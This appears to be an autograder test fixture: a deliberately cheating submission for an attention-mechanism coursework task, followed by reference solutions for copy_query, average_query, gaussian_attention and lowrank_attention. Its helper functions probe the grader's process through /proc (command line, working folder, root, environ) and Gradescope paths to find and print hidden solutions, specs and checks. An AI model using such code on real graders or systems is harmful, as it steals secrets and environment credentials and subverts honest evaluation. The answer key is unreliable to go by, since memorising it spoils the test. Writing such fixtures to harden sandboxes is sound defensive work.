"""Part 3 with wrong answers in 3.1 that tries to read what the grader keeps
from students and print it: the reference solutions, the specs (seeds,
tolerances), the checks, through the paths on the grader's command line,
its working folder and environment in /proc, and Gradescope's layout. As
root the grader's tree is private to root and the worker runs as another
user, so it finds nothing; its answers are wrong either way. Every other
function is the reference's.
"""

import glob
import os

import torch

_shown = False


def _grader_roots():
    roots = {"/autograder/source"}
    parent = os.getppid()
    try:
        with open(f"/proc/{parent}/cmdline", "rb") as handle:
            words = handle.read().decode(errors="replace").split("\0")
    except OSError:
        words = []
    for word in words:
        if word.startswith("/"):
            path = word
            while path not in ("/", ""):
                roots.add(path)
                path = os.path.dirname(path)
    roots.add(f"/proc/{parent}/cwd")
    roots.add(f"/proc/{parent}/root/autograder/source")
    return sorted(roots)


def _read(path, limit=3000):
    try:
        with open(path, errors="replace") as handle:
            return handle.read(limit)
    except OSError as exc:
        return f"<{type(exc).__name__}>"


def _hunt():
    found = {}
    for root in _grader_roots():
        for pattern in (
            "solutions/*.py",
            "specs/*.yaml",
            "autograder/checks/*.py",
            "*/solutions/*.py",
        ):
            for path in glob.glob(os.path.join(root, pattern))[:20]:
                found[path] = _read(path)
    found["environ"] = _read(f"/proc/{os.getppid()}/environ")
    return found


def _show_once():
    global _shown
    if not _shown:
        _shown = True
        for path, text in _hunt().items():
            print(f"== {path}\n{text}")


def attention_weights(q, K):
    _show_once()
    return torch.zeros(K.shape[0], dtype=K.dtype)


def attention(q, K, V):
    _show_once()
    return torch.zeros(V.shape[1], dtype=V.dtype)


def copy_query(K, i):
    """A query whose output is v_i, whatever the values are.

    The keys are orthogonal and all have the same norm.

    Args:
        K: the keys, shape (n, d).
        i: the index of the key to copy.

    Returns:
        q, shape (d,).
    """
    # BEGIN SOLUTION
    # k_iᵀq = 100 and k_jᵀq = 0 for j != i, so every other α_j is below
    # exp(-100) ≈ 4e-44.
    k = K[i]
    return 100.0 * k / (k @ k)
    # END SOLUTION
    # BEGIN STUB
    # # Make k_iᵀq much larger than every other k_jᵀq.
    # raise NotImplementedError("copy_query")
    # END STUB


def average_query(K, i, j):
    """A query whose output is (v_i + v_j) / 2, whatever the values are.

    The keys are orthogonal and all have the same norm.

    Args:
        K: the keys, shape (n, d).
        i: the index of one key.
        j: the index of the other key.

    Returns:
        q, shape (d,).
    """
    # BEGIN SOLUTION
    # k_iᵀq = k_jᵀq = 100 (equal norms) and every other logit is 0.
    return 100.0 * (K[i] + K[j]) / (K[i] @ K[i])
    # END SOLUTION
    # BEGIN STUB
    # # Give k_i and k_j the same large logit and every other key a small one.
    # raise NotImplementedError("average_query")
    # END STUB


def gaussian_attention(q, K, V, sigma):
    """Attention with weights α_i ∝ exp(-‖q - k_i‖² / (2·sigma)).

    Args:
        q: the query, shape (d,).
        K: the keys, shape (n, d).
        V: the values, shape (n, d_v).
        sigma: a positive float.

    Returns:
        c = Σ_i α_i·v_i, shape (d_v,).
    """
    # BEGIN SOLUTION
    logits = -((K - q) ** 2).sum(dim=1) / (2.0 * sigma)
    e = torch.exp(logits - logits.max())
    return (e / e.sum()) @ V
    # END SOLUTION
    # BEGIN STUB
    # # Same softmax as attention_weights, with -‖q - k_i‖² / (2·sigma) as logits.
    # raise NotImplementedError("gaussian_attention")
    # END STUB


def lowrank_attention(M, s, N, V):
    """The product (M·diag(s)·N)·V in O(k·n·d) time and memory.

    Args:
        M: shape (n, k).
        s: shape (k,).
        N: shape (k, n).
        V: shape (n, d).

    Returns:
        The product, shape (n, d).
    """
    # BEGIN SOLUTION
    # Multiply from the right so that no n × n matrix is ever formed:
    # N·V is (k, d), scaling its rows by s is diag(s)·N·V, and M brings it
    # back to (n, d).
    return M @ (s[:, None] * (N @ V))
    # END SOLUTION
    # BEGIN STUB
    # # M·diag(s)·N is n × n: choose an order of products that never forms it.
    # raise NotImplementedError("lowrank_attention")
    # END STUB
